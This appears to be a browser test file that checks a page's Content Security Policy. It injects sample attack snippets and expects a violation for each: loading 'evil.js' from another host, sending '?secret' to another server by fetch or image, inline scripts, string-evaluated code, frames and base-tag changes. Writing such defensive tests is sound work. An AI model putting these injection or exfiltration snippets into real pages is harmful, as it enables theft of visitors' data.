import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { browserTests, onViolation } from './browser.ts';
import { openPageSite, type PageSite } from './page-site.ts';

const { missing, name } = browserTests("the page's policy");

describe.skipIf(missing)(name, () => {
  let site: PageSite;
  beforeAll(async () => {
    site = await openPageSite();
  }, 120_000);
  afterAll(() => site?.close());

  it.each([
    ['a script of another server', "import('http://127.0.0.1:1/evil.js')"],
    ['a request to another server', "fetch('http://127.0.0.1:1/?secret')"],
    ['a picture of another server', "Object.assign(new Image(), { src: 'http://127.0.0.1:1/?secret' })"],
    [
      'a script inside of the page',
      "document.body.append(Object.assign(document.createElement('script'), { text: 'evil()' }))",
    ],
    ['code that is text', "setTimeout('evil()')"],
    [
      'a frame',
      "document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://127.0.0.1:1/' }))",
    ],
    [
      'another base',
      "document.head.append(Object.assign(document.createElement('base'), { href: 'http://127.0.0.1:1/' }))",
    ],
  ])('forbids %s', async (_, script) => {
    const context = await site.browser.newContext();
    try {
      const page = await context.newPage();
      const violations: string[] = [];
      onViolation(page, (line) => violations.push(line));
      await page.goto(site.plain.address);
      const told = page.waitForEvent('console', (message) => /Content Security Policy/.test(message.text()));
      await page.evaluate(`{ void (${script}); }`).catch(() => undefined); // what it throws is not the point
      await told;
      expect(violations.length).toBeGreaterThan(0);
    } finally {
      await context.close();
    }
  });
});
